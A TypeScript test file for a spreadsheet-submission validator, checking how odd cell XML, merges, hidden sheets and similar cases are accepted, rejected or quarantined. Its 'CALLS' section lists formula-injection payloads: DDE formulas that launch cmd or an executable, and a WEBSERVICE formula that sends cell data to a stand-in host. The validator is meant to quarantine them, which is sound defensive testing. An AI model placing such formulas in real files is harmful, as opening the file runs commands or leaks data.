import type { Verdict } from '../../shared/submission.ts'
import { filledCells, form } from '../fixtures/intake/form.ts'
import { editZip } from '../fixtures/zip-parts.ts'
import type { Case } from './case.ts'

const workbook = await form('xlsx')
const SHEET = 'xl/worksheets/sheet1.xml'

type Change = (xml: string) => string
type Row = readonly [name: string, change: Change, verdict: Verdict, findings: readonly string[], value?: string]

/** The cell of the first figure with other content: `t` and what stands inside. */
const first =
  (content: string, type = ''): Change =>
  (xml) =>
    changed(xml, /<c r="F7"([^>]*?)(?: t="\w+")?>.*?<\/c>/, `<c r="F7"$1${type && ` t="${type}"`}>${content}</c>`)
const put =
  (from: string | RegExp, to: string): Change =>
  (xml) =>
    changed(xml, from, to)

const CELLS: readonly Row[] = [
  ['a figure as text', first('<is><t>12.5</t></is>', 'inlineStr'), 'accepted', [], '12.5'],
  ['a figure in runs of text', first('<is><r><t>12</t></r><r><t>.5</t></r></is>', 'inlineStr'), 'accepted', [], '12.5'],
  [
    'a figure with a phonetic guide',
    first('<is><t>12</t><rPh sb="0" eb="1"><t>9</t></rPh></is>', 'inlineStr'),
    'accepted',
    [],
    '12',
  ],
  ['a figure in CDATA', first('<v><![CDATA[12]]></v>'), 'accepted', [], '12'],
  ['a figure in character references', first('<v>&#49;&#x32;</v>'), 'accepted', [], '12'],
  ['noise of binary numbers', first('<v>0.30000000000000004</v>'), 'accepted', [], '0.3'],
  ['a formula with its value', first('<f>SUM(F8:F10)</f><v>3</v>'), 'accepted-with-notes', ['E404 报表!F7'], '3'],
  [
    'a formula with a text as value',
    first('<f>T(A1)</f><v>3</v>', 'str'),
    'accepted-with-notes',
    ['E404 报表!F7'],
    '3',
  ],
  ['a formula never computed', first('<f>1+1</f>'), 'rejected', ['E307 报表!F7']],
  ...['#REF!', '#DIV/0!', '#N/A', '#VALUE!', '#NAME?'].map(
    (error): Row => [error, first(`<v>${error}</v>`, 'e'), 'rejected', ['E304 报表!F7']],
  ),
  ['a boolean', first('<v>1</v>', 'b'), 'rejected', ['E301 报表!F7']],
  ['a date', first('<v>2025-03-01</v>', 'd'), 'rejected', ['E306 报表!F7']],
  ['a number too large for numbers', first('<v>1e400</v>'), 'rejected', ['E301 报表!F7']],
  ['a number in hexadecimal', first('<v>0x10</v>'), 'rejected', ['E301 报表!F7']],
  ['no content', first(''), 'rejected', ['E305 报表!F7']],
  ['a string that is not there', first('<v>99999</v>', 's'), 'rejected', ['E120']],
  ['a string of a negative number', first('<v>-1</v>', 's'), 'rejected', ['E120']],
  ['two values in a cell', first('<v>1</v><v>2</v>'), 'rejected', ['E120']],
  ['a value and a text in a cell', first('<v>1</v><is><t>2</t></is>'), 'rejected', ['E120']],
  ['an element within a value', first('<v>1<x/>2</v>'), 'rejected', ['E120']],
  ['a value of another language within the cell', first('<x:v>7</x:v><v>1</v>'), 'accepted', [], '1'],
  [
    'a cell of another language within the row',
    put('<c r="F7"', '<x:c r="F7"><x:v>7</x:v></x:c><c r="F7"'),
    'accepted',
    [],
    '1',
  ],
  ['a value between cells', put('<c r="F7"', '<v>7</v><c r="F7"'), 'rejected', ['E120']],
  ['text between cells', put('<c r="F7"', '" t="s"><c r="F7"'), 'rejected', ['E120']],
  ['text within a cell, beside its value', first('x<v>1</v>'), 'rejected', ['E120']],
  ['an element between cells that is none of ours', put('<c r="F7"', '<，c r="F7"/><c r="F7"'), 'rejected', ['E120']],
  ['the cell twice', put('<c r="F7"', '<c r="F7"><v>7</v></c><c r="F7"'), 'rejected', ['E120']],
  ['a cell before the one before it', put('<c r="F7"', '<c r="H7"><v>7</v></c><c r="F7"'), 'rejected', ['E120']],
  ['the row twice', put('<row r="8"', '<row r="7"'), 'rejected', ['E120']],
  ['the row before once more, empty', put('<row r="8"', '<row r="7"/><row r="8"'), 'rejected', ['E120']],
  ['tags that cross', first('<v>1</c></v>'), 'rejected', ['E120']],
  ['another place in the text of an attribute', put('<c r="F7"', `<c x=' r="F8"' r="F7"`), 'accepted', [], '1'],
  ['an attribute with a foreign prefix', put('<c r="F7"', '<c x:r="F8" r="F7"'), 'accepted', [], '1'],
]

/** Formulas that start or fetch something when a program opens them. */
const CALLS: readonly Row[] = [
  ...["cmd|'/c calc'!A1", "MSEXCEL|'\\..\\x.exe'!A1", '1+cmd|a!b', 'WEBSERVICE("http://example.com/?a="&amp;A1)'].map(
    (formula): Row => [`the formula ${formula}`, first(`<f>${formula}</f><v>1</v>`), 'quarantined', ['E127 报表!F7']],
  ),
  ['one without a result', first("<f>cmd|'/c calc'!A1</f>"), 'quarantined', ['E127 报表!F7']],
  ['a bar within a text', first('<f>LEN("a|b")</f><v>3</v>'), 'accepted-with-notes', ['E404 报表!F7'], '3'],
]

const SHAPE: readonly Row[] = [
  ['merged cells over figures', merged('E7:F8'), 'rejected', ['E211 报表!E7:F8']],
  ['a merge of the whole sheet', merged('A1:XFD1048576'), 'rejected', ['E211 报表!A1:XFD1048576']],
  ['a merge that is none', merged('A1:'), 'rejected', ['E120']],
  ['a merged title', merged('B2:F2'), 'accepted', []],
  ['a cell at the far end', far('<c r="XFD1048576"><v>1</v></c>', '1048576'), 'rejected', ['E212 报表!XFD1048576']],
  ['an empty cell at the far end', far('<c r="XFD1048576" s="1"/>', '1048576'), 'accepted', []],
  ['a cell in another row', put('<c r="F7"', '<c r="F99"'), 'rejected', ['E120']],
  ['a hidden row', put('<row r="7"', '<row hidden="1" r="7"'), 'accepted-with-notes', ['E210']],
  ['a hidden column', put('<col min="6" max="6"', '<col hidden="1" min="6" max="6"'), 'accepted-with-notes', ['E210']],
  ['no table at all', put(/<sheetData>.*<\/sheetData>/s, '<sheetData/>'), 'rejected', ['E201']],
  ['a sheet cut off', (xml) => xml.slice(0, xml.indexOf('<c r="F20"')), 'rejected', ['E120']],
]

const row = (titles: readonly string[]) =>
  `<row r="1">${titles.map((title) => `<c t="inlineStr"><is><t>${title}</t></is></c>`).join('')}</row>`
const header = row(['代码', '指标名称', '计量单位', '本期', '累计或期末'])

const SHEETS: readonly (readonly [
  name: string,
  file: () => Uint8Array,
  verdict: Verdict,
  findings: readonly string[],
])[] = [
  ['the form on a hidden sheet', () => hidden('hidden'), 'rejected', ['E208 报表!']],
  ['the form on a very hidden sheet', () => hidden('veryHidden'), 'rejected', ['E208 报表!']],
  ['two forms', () => moreSheets('', header), 'rejected', ['E207']],
  ['the same form again, hidden', () => moreSheets(' state="hidden"', header), 'accepted-with-notes', ['E209 二!']],
  ['the form on the second sheet', () => coverFirst(), 'accepted-with-notes', ['E209 封面!']],
  ['notes on a second sheet', () => moreSheets('', row(['说明'])), 'accepted-with-notes', ['E209 二!']],
  ['an empty second sheet', () => moreSheets('', ''), 'accepted', []],
]

export const workbookCases: readonly Case[] = [
  ...[...CELLS, ...CALLS, ...SHAPE].map(([name, change, verdict, findings, value]) =>
    workbookCase({
      name,
      file: () => editZip(workbook, { [SHEET]: change }),
      verdict,
      findings,
      ...(value === undefined ? {} : { values: { 'A01/ytd': value } }),
    }),
  ),
  ...SHEETS.map(([name, file, verdict, findings]) => workbookCase({ name, file, verdict, findings })),
  workbookCase({
    name: 'several mistakes at once, each at its cell',
    file: () => form('xlsx', { ...filledCells('1'), ...wrong }),
    verdict: 'rejected',
    findings: ['E302 报表!F7', 'E301 报表!F38', 'E305 报表!F39'],
  }),
  workbookCase({
    name: 'a number format whose number is none: readers see a date or a number',
    file: () => editZip(workbook, { 'xl/styles.xml': put(/(<cellXfs.*?)numFmtId="0"/s, '$1numFmtId="16-4"') }),
    verdict: 'rejected',
    findings: ['E120'],
  }),
  workbookCase({
    name: 'the version of another form in the hidden name',
    file: () => editZip(workbook, { 'xl/workbook.xml': put(/henan-zones\.[0-9a-f]{8}/, 'henan-zones.00000000') }),
    verdict: 'rejected',
    findings: ['E203'],
  }),
]

const wrong = { 'A01/ytd': { value: '5万' }, 'D01/ytd': { value: 'x' }, 'D02/ytd': { value: '' } }

function workbookCase(rest: Omit<Case, 'fileName'>): Case {
  return { ...rest, fileName: 'form.xlsx' }
}

function changed(xml: string, from: string | RegExp, to: string): string {
  const result = xml.replace(from, to)
  if (result === xml) throw new Error(`${from} is not there`)
  return result
}

function merged(ref: string): Change {
  return put(/<mergeCells[^>]*>/, `$&<mergeCell ref="${ref}"/>`)
}

function far(cell: string, number: string): Change {
  return put('</sheetData>', `<row r="${number}">${cell}</row></sheetData>`)
}

function hidden(state: string): Uint8Array {
  return editZip(workbook, { 'xl/workbook.xml': put('sheetId="1"', `sheetId="1" state="${state}"`) })
}

/** A cover before the form, in the order of the tabs. */
function coverFirst(): Uint8Array {
  return editZip(workbook, {
    'xl/workbook.xml': put('<sheets>', '<sheets><sheet name="封面" sheetId="9" r:id="rId99"/>'),
    'xl/_rels/workbook.xml.rels': put(
      '</Relationships>',
      '<Relationship Id="rId99" Type="http://x/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet9.xml': () =>
      `<worksheet><sheetData>${row(['开发区月报', '内部资料'])}</sheetData></worksheet>`,
  })
}

function moreSheets(state: string, rows: string): Uint8Array {
  return editZip(workbook, {
    'xl/workbook.xml': put('</sheets>', `<sheet name="二" sheetId="9"${state} r:id="rId99"/></sheets>`),
    'xl/_rels/workbook.xml.rels': put(
      '</Relationships>',
      '<Relationship Id="rId99" Type="http://x/worksheet" Target="worksheets/sheet9.xml"/></Relationships>',
    ),
    'xl/worksheets/sheet9.xml': () => `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
  })
}
